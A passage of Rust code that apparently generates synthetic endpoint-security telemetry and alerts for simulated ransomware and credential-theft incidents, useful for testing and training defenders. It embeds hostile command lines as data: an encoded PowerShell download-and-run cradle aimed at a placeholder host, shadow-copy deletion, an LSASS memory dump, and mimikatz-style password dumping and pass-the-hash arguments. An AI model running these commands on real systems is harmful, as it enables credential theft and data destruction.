        ("policy_id", json!(policy.id)),
        ("policy_name", json!(policy.name)),
        ("policy_override", json!(false)),
        ("quarantined", json!(false)),
        ("registered_time", json!(iso(registered))),
        ("scan_last_action_time", json!(null)),
        ("scan_last_complete_time", json!(null)),
        ("scan_status", json!(null)),
        ("sensor_kit_type", json!(kit)),
        ("sensor_out_of_date", json!(sensor.starts_with("3."))),
        ("sensor_pending_update", json!(false)),
        (
            "sensor_states",
            json!([
                "ACTIVE",
                "LIVE_RESPONSE_NOT_RUNNING",
                "LIVE_RESPONSE_NOT_KILLED",
                "LIVE_RESPONSE_ENABLED"
            ]),
        ),
        ("sensor_version", json!(sensor)),
        ("status", json!("REGISTERED")),
        ("target_priority", json!(d.target)),
        ("uninstall_code", json!(rand_hex(rng, 8).to_uppercase())),
        ("vcenter_name", json!(null)),
        ("vcenter_uuid", json!(null)),
        ("vdi_base_device", json!(null)),
        ("virtual_machine", json!(server)),
        (
            "virtualization_provider",
            json!(if server { "VMW_ESX" } else { "UNKNOWN" }),
        ),
        ("vm_ip", json!(null)),
        ("vm_name", json!(null)),
        ("vm_uuid", json!(null)),
        (
            "vuln_score",
            json!((rng.random_range(0..100u32) as f64) / 10.0),
        ),
        (
            "vuln_severity",
            json!(
                *["LOW", "MODERATE", "IMPORTANT", "CRITICAL"]
                    .choose(rng)
                    .unwrap_or(&"LOW")
            ),
        ),
        ("windows_platform", json!(null)),
    ];
    fields
        .into_iter()
        .map(|(k, v)| (k.to_string(), v))
        .collect()
}

// ---------------------------------------------------------------------------------------------
// Binaries and reputations
// ---------------------------------------------------------------------------------------------

const TRUSTED: &str = "TRUSTED_WHITE_LIST";
const COMMON: &str = "COMMON_WHITE_LIST";
const NOT_LISTED: &str = "NOT_LISTED";
const KNOWN_MALWARE: &str = "KNOWN_MALWARE";
const SUSPECT: &str = "SUSPECT_MALWARE";
const PUP: &str = "PUP";

/// (issuer, publisher)
type Signer = Option<(&'static str, &'static str)>;
const MS_WIN: Signer = Some(("Microsoft Windows Production PCA 2011", "Microsoft Windows"));
const MS_CORP: Signer = Some(("Microsoft Code Signing PCA 2011", "Microsoft Corporation"));

#[derive(Clone, Copy)]
struct Bin {
    path: &'static str,
    rep: &'static str,
    signer: Signer,
}

macro_rules! bins {
    ($($name:ident = $path:expr, $rep:expr, $signer:expr;)*) => {
        $(const $name: Bin = Bin { path: $path, rep: $rep, signer: $signer };)*
    };
}
bins! {
    NTOSKRNL = r"c:\windows\system32\ntoskrnl.exe", TRUSTED, MS_WIN;
    WININIT = r"c:\windows\system32\wininit.exe", TRUSTED, MS_WIN;
    USERINIT = r"c:\windows\system32\userinit.exe", TRUSTED, MS_WIN;
    SERVICES = r"c:\windows\system32\services.exe", TRUSTED, MS_WIN;
    SVCHOST = r"c:\windows\system32\svchost.exe", TRUSTED, MS_WIN;
    EXPLORER = r"c:\windows\explorer.exe", TRUSTED, MS_WIN;
    CMD = r"c:\windows\system32\cmd.exe", TRUSTED, MS_WIN;
    POWERSHELL = r"c:\windows\system32\windowspowershell\v1.0\powershell.exe", TRUSTED, MS_WIN;
    WINWORD = r"c:\program files\microsoft office\root\office16\winword.exe", TRUSTED, MS_CORP;
    VSSADMIN = r"c:\windows\system32\vssadmin.exe", TRUSTED, MS_WIN;
    WMIPRVSE = r"c:\windows\system32\wbem\wmiprvse.exe", TRUSTED, MS_WIN;
    WMIC = r"c:\windows\system32\wbem\wmic.exe", TRUSTED, MS_WIN;
    MSTSC = r"c:\windows\system32\mstsc.exe", TRUSTED, MS_WIN;
    WSMPROVHOST = r"c:\windows\system32\wsmprovhost.exe", TRUSTED, MS_WIN;
    PSEXESVC = r"c:\windows\psexesvc.exe", TRUSTED, MS_CORP;
    SYSTEMINFO = r"c:\windows\system32\systeminfo.exe", TRUSTED, MS_WIN;
    GPUPDATE = r"c:\windows\system32\gpupdate.exe", TRUSTED, MS_WIN;
    IPCONFIG = r"c:\windows\system32\ipconfig.exe", TRUSTED, MS_WIN;
    WHOAMI = r"c:\windows\system32\whoami.exe", TRUSTED, MS_WIN;
    FTP = r"c:\windows\system32\ftp.exe", TRUSTED, MS_WIN;
    CHROME = r"c:\program files\google\chrome\application\chrome.exe", COMMON,
        Some(("DigiCert Trusted G4 Code Signing RSA4096 SHA384 2021 CA1", "Google LLC"));
    ANYDESK = r"c:\program files (x86)\anydesk\anydesk.exe", COMMON,
        Some(("DigiCert Trusted G4 Code Signing RSA4096 SHA384 2021 CA1", "philandro Software GmbH"));
    SYSTEMD = "/usr/lib/systemd/systemd", NOT_LISTED, None;
    CRON = "/usr/sbin/cron", NOT_LISTED, None;
    DASH = "/usr/bin/dash", NOT_LISTED, None;
    CURL = "/usr/bin/curl", NOT_LISTED, None;
}

/// A process image: path (lowercase, as CBC reports `process_name`), hashes and reputation.
#[derive(Debug, Clone)]
struct Img {
    path: String,
    sha: String,
    md5: String,
    rep: &'static str,
    eff: &'static str,
    signer: Signer,
}

impl Img {
    fn bin(b: &Bin) -> Img {
        Img::known(b.path.to_string(), b.path, b.rep, b.signer)
    }
    /// A well-known file (stable hashes keyed by `key`) at a story-specific path.
    fn known(path: String, key: &str, rep: &'static str, signer: Signer) -> Img {
        Img {
            path,
            sha: stable_hex(key, 64),
            md5: stable_hex(&format!("md5:{key}"), 32),
            rep,
            eff: rep,
            signer,
        }
    }
    /// A never-seen-before file (attacker tooling): random hashes.
    fn fresh(rng: &mut StdRng, path: String, rep: &'static str, eff: &'static str) -> Img {
        Img {
            path,
            sha: rand_hex(rng, 64),
            md5: rand_hex(rng, 32),
            rep,
            eff,
            signer: None,
        }
    }
    fn at(&self, path: String) -> Img {
        Img {
            path,
            ..self.clone()
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Plots: a story before it becomes JSON (relative times in ms, indices instead of ids)
// ---------------------------------------------------------------------------------------------

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    CredentialTheft,
    Ransomware,
    Miner,
    FalsePositive,
    DeviceControl,
    Firewall,
}

impl Kind {
    fn random(rng: &mut StdRng) -> Kind {
        match rng.random_range(0..100) {
            0..30 => Kind::CredentialTheft,
            30..55 => Kind::Ransomware,
            55..75 => Kind::Miner,
            75..90 => Kind::FalsePositive,
            90..95 => Kind::DeviceControl,
            _ => Kind::Firewall,
        }
    }
}

/// Variants a caller can insist on (the first backlog stories of each org).
#[derive(Debug, Clone, Copy, Default)]
struct Force {
    /// Credential theft: one hop is PsExec (SMB 445).
    psexec: bool,
    /// False positive: the PowerShell inventory variant.
    inventory: bool,
}

#[derive(Debug, Clone)]
enum Parent {
    None,
    /// A process outside the story (wininit.exe, userinit.exe ...).
    Ext {
        img: Img,
        pid: u32,
        start: i64,
    },
    In(usize),
}

#[derive(Debug, Clone)]
struct Proc {
    dev: usize,
    pid: u32,
    img: Img,
    cmd: String,
    user: String,
    start: i64,
    parent: Parent,
    ttp: Vec<&'static str>,
    filemod: u32,
    regmod: u32,
    crossproc: u32,
    modload: u32,
    scriptload: u32,
    /// Network connections beyond the recorded observations.
    net_extra: u32,
}

#[derive(Debug, Clone)]
enum Ev {
    Net {
        remote: u32,
        /// `netconn_port`: the service port (445 on both ends of an SMB session).
        port: u16,
        /// `event_network_remote_port`: the peer's port.
        remote_port: u16,
        local_port: u16,
        inbound: bool,
        domain: Option<String>,
        location: Option<&'static str>,
        blocked: bool,
    },
    Child(usize),
    File(String),
    Cross(&'static str),
}

#[derive(Debug, Clone)]
struct Obs {
    proc: usize,
    t: i64,
    ev: Ev,
    alerts: Vec<usize>,
    event_id: String,
    fallback_uuid: String,
    ttp: Vec<&'static str>,
}

#[derive(Debug, Clone)]
struct Alert {
    id: String,
    typ: &'static str,
    dev: usize,
    proc: Option<usize>,
    child: Option<usize>,
    severity: u8,
    reason: String,
    reason_code: String,
    threat_id: String,
    event_id: String,
    act: Act,
    ttps: Vec<&'static str>,
    tactic: &'static str,
    technique: &'static str,
    first: i64,
    last: i64,
    detect: i64,
    backend: i64,
    extra: Vec<(&'static str, Value)>,
}

/// (policy_applied, run_state, sensor_action)
type Act = (&'static str, &'static str, &'static str);
const OBSERVED: Act = ("NOT_APPLIED", "RAN", "ALLOW");
const TERMINATED: Act = ("APPLIED", "RAN", "TERMINATE");
const DENIED: Act = ("APPLIED", "DID_NOT_RUN", "DENY");

#[derive(Debug, Clone)]
struct Plot {
    procs: Vec<Proc>,
    alerts: Vec<Alert>,
    obs: Vec<Obs>,
}

impl Plot {
    /// Relative time of the last thing that happens (alert, process start, event): the anchor.
    fn span(&self) -> i64 {
        let alerts = self.alerts.iter().map(|a| a.backend);
        let procs = self.procs.iter().map(|p| p.start);
        let obs = self.obs.iter().map(|o| o.t);
        alerts.chain(procs).chain(obs).max().unwrap_or(0)
    }
}

/// A watchlist report (WATCHLIST alerts).
struct Report {
    name: &'static str,
    description: &'static str,
    tags: &'static [&'static str],
    technique: &'static str,
    tactic: &'static str,
    ioc_hit: &'static str,
    watchlist: &'static str,
}

const WL_ATI: &str = "Carbon Black Advanced Threats";
const WL_TAU: &str = "Carbon Black Endpoint Visibility";

const R_SHADOW: Report = Report {
    name: "Defense Evasion - Shadow Copy Deletion via vssadmin",
    description: "Detects vssadmin.exe deleting volume shadow copies, a step most ransomware families take before encrypting to prevent recovery.",
    tags: &[
        "impact",
        "t1490",
        "ransomware",
        "windows",
        "attack",
        "attackframework",
    ],
    technique: "T1490",
    tactic: "TA0040",
    ioc_hit: "process_name:vssadmin.exe AND process_cmdline:delete AND process_cmdline:shadows",
    watchlist: WL_ATI,
};
const R_PSEXEC_SVC: Report = Report {
    name: "Lateral Movement - PsExec Service Execution",
    description: "PSEXESVC.exe was installed and started as a service, the remote half of a PsExec session. Verify the source host and account.",
    tags: &["lateral-movement", "t1569", "t1021", "windows", "attack"],
    technique: "T1569.002",
    tactic: "TA0008",
    ioc_hit: "process_name:psexesvc.exe AND parent_name:services.exe",
    watchlist: WL_ATI,
};
const R_PSEXEC_USE: Report = Report {
    name: "Lateral Movement - PsExec Remote Execution",
    description: "PsExec was used to execute a command on a remote host. Administrators use PsExec legitimately; attackers use it with stolen credentials.",
    tags: &[
        "lateral-movement",
        "t1021.002",
        "windows",
        "attack",
        "dual-use",
    ],
    technique: "T1021.002",
    tactic: "TA0008",
    ioc_hit: "(process_name:psexec.exe OR process_name:psexec64.exe) AND process_cmdline:\\\\\\\\*",
    watchlist: WL_TAU,
};
const R_STRATUM: Report = Report {
    name: "Impact - Cryptocurrency Miner Stratum Connection",
    description: "A process connected with the stratum mining protocol. Cryptocurrency miners consume compute and are often dropped through exposed services.",
    tags: &["impact", "t1496", "miner", "linux", "windows"],
    technique: "T1496",
    tactic: "TA0040",
    ioc_hit: "process_cmdline:stratum\\+tcp* OR (netconn_port:3333 OR netconn_port:4444)",
    watchlist: WL_ATI,
};
const R_RMM: Report = Report {
    name: "Command and Control - Remote Access Software",
    description: "Remote access software such as AnyDesk or ConnectWise ScreenConnect ran on the host. Confirm it is sanctioned by the customer's IT department.",
    tags: &["command-and-control", "t1219", "rmm", "dual-use", "windows"],
    technique: "T1219",
    tactic: "TA0011",
    ioc_hit: "process_name:anydesk.exe OR process_name:screenconnect.clientservice.exe",
    watchlist: WL_TAU,
};

/// Builds one plot for one org.
struct Bld<'a> {
    org: &'a Org,
    /// Behind a `RefCell` so helpers drawing numbers take `&self` and can appear in the
    /// arguments of the `&mut self` methods that record processes, alerts and observations.
    rng: RefCell<&'a mut StdRng>,
    p: Plot,
}

fn build(org: &Org, rng: &mut StdRng, kind: Kind, force: Force) -> Plot {
    let mut b = Bld {
        org,
        rng: RefCell::new(rng),
        p: Plot {
            procs: Vec::new(),
            alerts: Vec::new(),
            obs: Vec::new(),
        },
    };
    match kind {
        Kind::CredentialTheft => b.credential_theft(force.psexec),
        Kind::Ransomware => b.ransomware(),
        Kind::Miner => b.miner(),
        Kind::FalsePositive => b.false_positive(force.inventory),
        Kind::DeviceControl => b.device_control(),
        Kind::Firewall => b.firewall(),
    }
    b.p
}

/// Lateral movement techniques.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Hop {
    PsExec,
    Wmi,
    Rdp,
    WinRm,
}

impl Hop {
    fn port(self) -> u16 {
        match self {
            Hop::PsExec => 445,
            Hop::Wmi => 135,
            Hop::Rdp => 3389,
            Hop::WinRm => 5985,
        }
    }
    fn ttp(self) -> &'static str {
        match self {
            Hop::PsExec => "MITRE_T1021_002_SMB_WINDOWS_ADMIN_SHARES",
            Hop::Wmi => "MITRE_T1047_WINDOWS_MGMT_INSTR",
            Hop::Rdp => "MITRE_T1021_001_REMOTE_DESKTOP_PROTOCOL",
            Hop::WinRm => "MITRE_T1021_006_WINDOWS_REMOTE_MGMT",
        }
    }
    fn technique(self) -> &'static str {
        match self {
            Hop::PsExec => "T1021.002",
            Hop::Wmi => "T1047",
            Hop::Rdp => "T1021.001",
            Hop::WinRm => "T1021.006",
        }
    }
    fn label(self) -> &'static str {
        match self {
            Hop::PsExec => "PsExec (SMB/445)",
            Hop::Wmi => "WMI (RPC/135)",
            Hop::Rdp => "RDP (3389)",
            Hop::WinRm => "WinRM (5985)",
        }
    }
}

const SYSTEM: &str = "NT AUTHORITY\\SYSTEM";
const NETWORK_SERVICE: &str = "NT AUTHORITY\\NETWORK SERVICE";

impl Bld<'_> {
    fn ri<T: SampleUniform, R: SampleRange<T>>(&self, range: R) -> T {
        self.rng.borrow_mut().random_range(range)
    }

    /// A duration in `lo..hi` ms.
    fn r(&self, lo: i64, hi: i64) -> i64 {
        self.ri(lo..hi)
    }

    fn chance(&self, p: f64) -> bool {
        self.rng.borrow_mut().random_bool(p)
    }

    fn any<T: Copy>(&self, xs: &[T]) -> T {
        let mut rng = self.rng.borrow_mut();
        *xs.choose(&mut **rng).expect("choice from an empty list")
    }

    fn shuffle<T>(&self, xs: &mut [T]) {
        xs.shuffle(&mut **self.rng.borrow_mut());
    }

    fn hex(&self, n: usize) -> String {
        rand_hex(&mut self.rng.borrow_mut(), n)
    }

    fn uuid(&self) -> String {
        rand_uuid(&mut self.rng.borrow_mut())
    }

    fn letters(&self, n: usize) -> String {
        rand_letters(&mut self.rng.borrow_mut(), n)
    }

    fn ext_ip(&self) -> u32 {
        external_ip(&mut self.rng.borrow_mut())
    }

    fn fresh(&self, path: String, rep: &'static str, eff: &'static str) -> Img {
        Img::fresh(&mut self.rng.borrow_mut(), path, rep, eff)
    }

    fn pid(&self, dev: usize) -> u32 {
        match self.org.devices[dev].os {
            Os::Windows => self.ri(100..5000u32) * 4,
            _ => self.ri(1000..65000u32),
        }
    }

    fn pick(&self, cands: &[usize]) -> usize {
        self.any(cands)
    }

    fn proc(
        &mut self,
        dev: usize,
        parent: Parent,
        img: Img,
        cmd: String,
        user: &str,
        start: i64,
    ) -> usize {
        let pid = self.pid(dev);
        self.p.procs.push(Proc {
            dev,
            pid,
            img,
            cmd,
            user: user.to_string(),
            start,
            parent,
            ttp: Vec::new(),
            filemod: self.ri(0..6),
            regmod: self.ri(0..12),
            crossproc: self.ri(0..4),
            modload: self.ri(4..60),
            scriptload: 0,
            net_extra: 0,
        });
        self.p.procs.len() - 1
    }

    fn child(&mut self, parent: usize, img: Img, cmd: String, user: &str, after: i64) -> usize {
        let dev = self.p.procs[parent].dev;
        let start = self.p.procs[parent].start + after;
        self.proc(dev, Parent::In(parent), img, cmd, user, start)
    }

    fn ext_parent(&self, dev: usize, bin: &Bin, start: i64) -> Parent {
        let pid = self.pid(dev);
        Parent::Ext {
            img: Img::bin(bin),
            pid,
            start,
        }
    }

    /// `explorer.exe` of a logged-on user (parent userinit.exe, outside the story).
    fn explorer(&mut self, dev: usize, user: &str, start: i64) -> usize {
        let parent = self.ext_parent(dev, &USERINIT, start - self.r(2 * SEC, 9 * SEC));
        self.proc(
            dev,
            parent,
            Img::bin(&EXPLORER),
            r"C:\Windows\Explorer.EXE".into(),
            user,
            start,
        )
    }

    /// `services.exe` started at boot (parent wininit.exe, outside the story).
    fn services(&mut self, dev: usize, boot: i64) -> usize {
        let parent = self.ext_parent(dev, &WININIT, boot - self.r(SEC, 4 * SEC));
        self.proc(
            dev,
            parent,
            Img::bin(&SERVICES),
            r"C:\Windows\system32\services.exe".into(),
            SYSTEM,
            boot,
        )
    }

    fn svchost(&mut self, services: usize, group: &str, user: &str) -> usize {
        let after = self.r(5 * SEC, 60 * SEC);
        let cmd = format!(r"C:\Windows\system32\svchost.exe -k {group}");
        self.child(services, Img::bin(&SVCHOST), cmd, user, after)
    }

    /// The kernel's `System` process (pid 4): the owner of inbound SMB sessions.
    fn system(&mut self, dev: usize, boot: i64) -> usize {
        let i = self.proc(
            dev,
            Parent::None,
            Img::bin(&NTOSKRNL),
            String::new(),
            SYSTEM,
            boot - 20 * SEC,
        );
        self.p.procs[i].pid = 4;
        i
    }

    fn boot(&self) -> i64 {
        -self.r(2 * DAY, 30 * DAY)
    }

    fn ttp(&mut self, proc: usize, ttps: &[&'static str]) {
        self.p.procs[proc].ttp.extend_from_slice(ttps);
    }

    fn obs(&mut self, proc: usize, t: i64, ev: Ev, ttp: &[&'static str]) -> usize {
        let event_id = self.hex(32);
        let fallback_uuid = self.uuid();
        self.p.obs.push(Obs {
            proc,
            t,
            ev,
            alerts: Vec::new(),
            event_id,
            fallback_uuid,
            ttp: ttp.to_vec(),
        });
        self.p.obs.len() - 1
    }

    /// An outbound connection from `proc` to an external address.
    fn egress(&mut self, proc: usize, t: i64, port: u16, domain: String) -> usize {
        let remote = self.ext_ip();
        let local_port = self.ri(49152..65535u16);
        let location = self.any(&[
            "Frankfurt am Main,HE,Germany",
            "Amsterdam,NH,Netherlands",
            "Ashburn,VA,United States",
            "Singapore,,Singapore",
            "Moscow,MOW,Russia",
            "Hong Kong,,Hong Kong",
        ]);
        let ev = Ev::Net {
            remote,
            port,
            remote_port: port,
            local_port,
            inbound: false,
            domain: Some(domain),
            location: Some(location),
            blocked: false,
        };
        self.obs(
            proc,
            t,
            ev,
            &["NETWORK_ACCESS", "ACTIVE_CLIENT", "INTERNATIONAL_SITE"],
        )
    }

    /// Both ends of an internal connection: (outbound obs on `src`, inbound obs on `dst`).
    fn lateral(
        &mut self,
        src: usize,
        dst: usize,
        port: u16,
        t: i64,
        hop_ttp: &'static str,
    ) -> (usize, usize) {
        let (sdev, ddev) = (self.p.procs[src].dev, self.p.procs[dst].dev);
        let (sip, dip) = (self.org.devices[sdev].ip, self.org.devices[ddev].ip);
        let eph = self.ri(49152..65535u16);
        let out = Ev::Net {
            remote: dip,
            port,
            remote_port: port,
            local_port: eph,
            inbound: false,
            domain: None,
            location: None,
            blocked: false,
        };
        let inb = Ev::Net {
            remote: sip,
            port,
            remote_port: eph,
            local_port: port,
            inbound: true,
            domain: None,
            location: None,
            blocked: false,
        };
        let o = self.obs(src, t, out, &["NETWORK_ACCESS", "ACTIVE_CLIENT", hop_ttp]);
        let lag = self.r(5, 400);
        let i = self.obs(
            dst,
            t + lag,
            inb,
            &["NETWORK_ACCESS", "ACTIVE_SERVER", hop_ttp],
        );
        (o, i)
    }

    fn link(&mut self, obs: usize, alert: usize) {
        self.p.obs[obs].alerts.push(alert);
    }

    #[allow(clippy::too_many_arguments)]
    fn alert(
        &mut self,
        typ: &'static str,
        proc: usize,
        severity: u8,
        reason: String,
        reason_code: String,
        threat_id: String,
        act: Act,
        (ttps, tactic, technique): (&[&'static str], &'static str, &'static str),
        detect: i64,
    ) -> usize {
        let pstart = self.p.procs[proc].start;
        let first = (detect - self.r(500, 30 * SEC)).max(pstart);
        let last = (first + self.r(0, 20 * SEC)).min(detect);
        let delay = if typ == "WATCHLIST" {
            self.r(MIN, 5 * MIN)
        } else {
            self.r(15 * SEC, 90 * SEC)
        };
        let child = (0..self.p.procs.len())
            .find(|&c| matches!(self.p.procs[c].parent, Parent::In(p) if p == proc));
        let id = self.uuid();
        let event_id = self.hex(32);
        let ttps = ttps.to_vec();
        self.ttp(proc, &ttps);
        self.p.alerts.push(Alert {
            id,
            typ,
            dev: self.p.procs[proc].dev,
            proc: Some(proc),
            child,
            severity,
            reason,
            reason_code,
            threat_id,
            event_id,
            act,
            ttps,
            tactic,
            technique,
            first,
            last,
            detect,
            backend: detect + delay,
            extra: Vec::new(),
        });
        self.p.alerts.len() - 1
    }

    fn watchlist(&mut self, proc: usize, r: &Report, severity: u8, detect: i64) -> usize {
        let name = basename(&self.p.procs[proc].img.path).to_string();
        let report_uuid = stable_uuid(r.name);
        let ioc_uuid = stable_uuid(&format!("ioc:{}", r.name));
        let wl_id: String = stable_hex(r.watchlist, 20);
        let reason = format!(
            "Process {name} was detected by the report \"{}\" in watchlist \"{}\"",
            r.name, r.watchlist
        );
        let threat =
            stable_hex(&format!("{report_uuid}/{}", self.p.procs[proc].img.sha), 32).to_uppercase();
        let ttps = ["MITRE_ATTACK_FRAMEWORK"];
        let a = self.alert(
            "WATCHLIST",
            proc,
            severity,
            reason,
            format!("{report_uuid}:{ioc_uuid}"),
            threat,
            OBSERVED,
            (&ttps, r.tactic, r.technique),
            detect,
        );
        let report_id = format!("{}-{ioc_uuid}", &stable_hex(&format!("rid:{}", r.name), 22));
        let extra = vec![
            ("report_id", json!(report_id)),
            ("report_name", json!(r.name)),
            ("report_description", json!(r.description)),
            ("report_tags", json!(r.tags)),
            (
                "report_link",
                json!(format!(
                    "https://attack.mitre.org/techniques/{}/",
                    r.technique.replace('.', "/")
                )),
            ),
            ("ioc_id", json!(ioc_uuid)),
            ("ioc_hit", json!(r.ioc_hit)),
            ("watchlists", json!([{ "id": wl_id, "name": r.watchlist }])),
            ("ml_classification_final_verdict", json!("NOT_ANOMALOUS")),
            ("ml_classification_global_prevalence", json!("MEDIUM")),
            ("ml_classification_org_prevalence", json!("LOW")),
        ];
        self.p.alerts[a].extra = extra;
        a
    }

    fn threat_id(&self) -> String {
        self.hex(32)
    }

    // -- stories ----------------------------------------------------------------------------

    fn ransomware(&mut self) {
        let org = self.org;
        let ws = org.windows(Some(Role::Workstation));
        let dev = self.pick(&ws);
        let u = &org.users[org.devices[dev].user];
        let (user, short) = (u.account.clone(), u.short.clone());
        let doc_name = if org.japanese {
            self.any(&[
                "請求書_2026.docm",
                "見積書_0412.docm",
                "発注書_最新版.docm",
                "給与明細_2026年3月.docm",
                "納品書_確認依頼.docm",
            ])
        } else {
            self.any(&[
                "Invoice_2026-0412.docm",
                "Payment_Advice.docm",
                "Resume_J_Smith.docm",
                "Shipping_Notice.docm",
            ])
        };
        let c2 = format!(
            "cdn-{}.{}.example",
            self.letters(5),
            self.any(&["update", "files", "static"])
        );
        let enc_name = format!("{}.exe", self.letters(self.ri(6..10usize)));

        let logon = -self.r(HOUR, 8 * HOUR);
        let explorer = self.explorer(dev, &user, logon);
        let word_cmd = format!(
            r#""C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "C:\Users\{short}\Downloads\{doc_name}" /o """#
        );
        let word = self.child(explorer, Img::bin(&WINWORD), word_cmd, &user, -logon);
        self.p.procs[word].net_extra = 3;
        let script = format!(
            "$u='https://{c2}/{}/{}.bin';$o=\"$env:APPDATA\\{enc_name}\";(New-Object Net.WebClient).DownloadFile($u,$o);Start-Process $o",
            self.letters(4),
            self.letters(8)
        );
        let enc = ps_encode(&script);
        let after = self.r(20 * SEC, 90 * SEC);
        let cmd = self.child(
            word,
            Img::bin(&CMD),
            format!("cmd.exe /c powershell.exe -nop -w hidden -enc {enc}"),
            &user,
            after,
        );
        let after = self.r(300, 3 * SEC);
        let ps = self.child(
            cmd,
            Img::bin(&POWERSHELL),
            format!("powershell.exe  -nop -w hidden -enc {enc}"),
            &user,
            after,
        );
        self.p.procs[ps].scriptload = 1;
        let after = self.r(20 * SEC, 60 * SEC);
        let enc_path = format!(r"c:\users\{short}\appdata\roaming\{enc_name}");
        let enc_img = self.fresh(enc_path, NOT_LISTED, SUSPECT);
        let encryptor = self.child(
            ps,
            enc_img,
            format!(r#""C:\Users\{short}\AppData\Roaming\{enc_name}" /s"#),
            &user,
            after,
        );
        self.p.procs[encryptor].filemod = self.ri(1500..9000);
        let after = self.r(5 * SEC, 30 * SEC);
        let vss = self.child(
            encryptor,
            Img::bin(&VSSADMIN),
            "vssadmin.exe delete shadows /all /quiet".into(),
            &user,
            after,
        );

        let tid = self.threat_id();
        let t_ps = self.p.procs[ps].start;
        let t_enc = self.p.procs[encryptor].start;
        let t_vss = self.p.procs[vss].start;

        // Alerts: the encryptor (CB_ANALYTICS 9–10) and the shadow-copy deletion (WATCHLIST)
        // always; the encoded PowerShell download (CB_ANALYTICS 8–9) in most stories.
        let a1 = if self.chance(0.6) {
            let detect = t_ps + self.r(5 * SEC, 30 * SEC);
            let sev = self.ri(8..=9);
            Some(self.alert(
            "CB_ANALYTICS",
            ps,
            sev,
            "powershell.exe was launched by winword.exe with a Base64-encoded command line and downloaded an executable from the internet.".into(),
            "R_SUSPECT_OFFICE_CHILD".into(),
            tid.clone(),
            OBSERVED,
            (
                &[
                    "MITRE_T1059_001_POWERSHELL",
                    "MITRE_T1027_OBFUSCATED_FILES_OR_INFO",
                    "MITRE_T1204_002_MALICIOUS_FILE",
                    "MITRE_T1105_INGRESS_TOOL_TRANSFER",
                    "FILELESS",
                    "RUN_CMD_SHELL",
                    "NETWORK_ACCESS",
                ],
                "TA0002",
                "T1059.001",
            ),
            detect,
        ))
        } else {
            None
        };
        let o_child = self.obs(
            word,
            self.p.procs[cmd].start,
            Ev::Child(cmd),
            &["MITRE_T1204_002_MALICIOUS_FILE", "RUN_CMD_SHELL"],
        );
        let o_download = self.egress(ps, t_ps + self.r(2 * SEC, 10 * SEC), 443, c2.clone());

        let detect = t_enc + self.r(10 * SEC, 60 * SEC);
        let sev = self.ri(9..=10);
        let a2 = self.alert(
            "CB_ANALYTICS",
            encryptor,
            sev,
            format!("{enc_name} modified protected decoy files in a way consistent with ransomware encryption. A Terminate Policy Action was applied."),
            "T_CANARY".into(),
            tid,
            TERMINATED,
            (
                &[
                    "MITRE_T1486_DATA_ENCRYPTED_FOR_IMPACT",
                    "MITRE_T1490_INHIBIT_SYS_RECOVERY",
                    "KNOWN_RANSOMWARE",
                    "RUN_UNKNOWN_APP",
                    "POLICY_TERMINATE",
                ],
                "TA0040",
                "T1486",
            ),
            detect,
        );
        let victim_file = if org.japanese {
            format!(r"C:\Users\{short}\Documents\経理\2026年度_予算.xlsx.locked")
        } else {
            format!(r"C:\Users\{short}\Documents\Finance\Budget_2026.xlsx.locked")
        };
        let o = self.obs(
            encryptor,
            t_enc + self.r(2 * SEC, 20 * SEC),
            Ev::File(victim_file),
            &["MITRE_T1486_DATA_ENCRYPTED_FOR_IMPACT"],
        );
        self.link(o, a2);
        for o in [o_child, o_download] {
            self.link(o, a1.unwrap_or(a2));
        }
        if self.chance(0.5) {
            let o = self.egress(encryptor, t_enc + self.r(SEC, 5 * SEC), 443, c2);
            self.link(o, a2);
        }
        let detect = t_vss + self.r(30 * SEC, 2 * MIN);
        let sev = self.ri(7..=8);
        let a3 = self.watchlist(vss, &R_SHADOW, sev, detect);
        let o = self.obs(
            encryptor,
            t_vss,
            Ev::Child(vss),
            &["MITRE_T1490_INHIBIT_SYS_RECOVERY"],
        );
        self.link(o, a3);
    }

    fn credential_theft(&mut self, force_psexec: bool) {
        let org = self.org;
        let ws = org.windows(Some(Role::Workstation));
        let src = self.pick(&ws);
        let victim = org.users[org.devices[src].user].account.clone();
        let victim_short = org.users[org.devices[src].user].short.clone();
        let adm = org.users[org.admin].account.clone();
        let adm_short = org.users[org.admin].short.clone();

        // Targets: 2–4 other Windows devices, servers first more often than not.
        let mut cands: Vec<(u32, usize)> = org
            .windows(None)
            .into_iter()
            .filter(|&d| d != src)
            .map(|d| {
                let server = org.devices[d].role == Role::Server;
                let key = self.ri(0..100u32) + if server { 0 } else { 40 };
                (key, d)
            })
            .collect();
        cands.sort();
        let n = self.ri(2..=4usize).min(cands.len());
        let targets: Vec<usize> = cands.iter().take(n).map(|&(_, d)| d).collect();
        let mut hops = [Hop::PsExec, Hop::Wmi, Hop::Rdp, Hop::WinRm];
        self.shuffle(&mut hops);
        if force_psexec && !hops[..n].contains(&Hop::PsExec) {
            hops[0] = Hop::PsExec;
        }

        let tool_name = format!(
            "{}.exe",
            self.any(&[
                "svcmon",
                "wdupdate",
                "msdtcx",
                "winlogsvc",
                "netcfg32",
                "perfhost64"
            ])
        );
        let tool = self.fresh(
            format!(r"c:\programdata\{tool_name}"),
            KNOWN_MALWARE,
            KNOWN_MALWARE,
        );
        let ntlm = self.hex(32);
        let domain = org.domain.clone();

        let logon = -self.r(HOUR, 6 * HOUR);
        let explorer = self.explorer(src, &victim, logon);
        let after = -logon + self.r(0, 60 * SEC);
        let cmd = self.child(
            explorer,
            Img::bin(&CMD),
            r#""C:\Windows\system32\cmd.exe" "#.into(),
            &victim,
            after,
        );
        let procdump = self.chance(0.4);
        let tid = self.threat_id();
        let (dumper, x) = if procdump {
            let img = Img::known(
                format!(r"c:\users\{victim_short}\downloads\procdump64.exe"),
                "procdump64.exe",
                TRUSTED,
                MS_CORP,
            );
            let after = self.r(20 * SEC, 60 * SEC);
            let pd = self.child(
                cmd,
                img,
                r"procdump64.exe -accepteula -ma lsass.exe C:\ProgramData\lsass.dmp".into(),
                &victim,
                after,
            );
            self.p.procs[pd].filemod = 1;
            let after = self.r(60 * SEC, 2 * MIN);
            let args = format!(
                r#""sekurlsa::minidump C:\ProgramData\lsass.dmp" "sekurlsa::logonpasswords" "sekurlsa::pth /user:{adm_short} /domain:{domain} /ntlm:{ntlm} /run:cmd.exe" exit"#
            );
            let x = self.child(
                cmd,
                tool.clone(),
                format!(r"C:\ProgramData\{tool_name} {args}"),
                &victim,
                after,
            );
